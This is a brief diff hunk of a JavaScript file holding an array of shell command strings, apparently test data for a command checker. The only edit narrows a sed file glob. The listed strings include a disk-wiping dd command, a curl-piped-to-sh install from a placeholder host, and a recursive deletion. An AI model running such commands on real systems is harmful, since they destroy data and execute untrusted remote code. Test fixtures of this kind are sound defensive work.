@@ -19,7 +19,7 @@ const lines = [
   "chown -R nobody docs",
   "tar czf docs.tgz docs && rm -r docs",
   "echo done > docs/page-0.md",
-  "sed -i 's/Page/page/' docs/*.md",
+  "sed -i 's/Page/page/' docs/page-1.md",
   "dd if=/dev/zero of=/dev/sda",
   "curl -s https://example.org/install.sh | sh",
   'x=$(basename docs/page-1.md .md); touch "$x.new"',
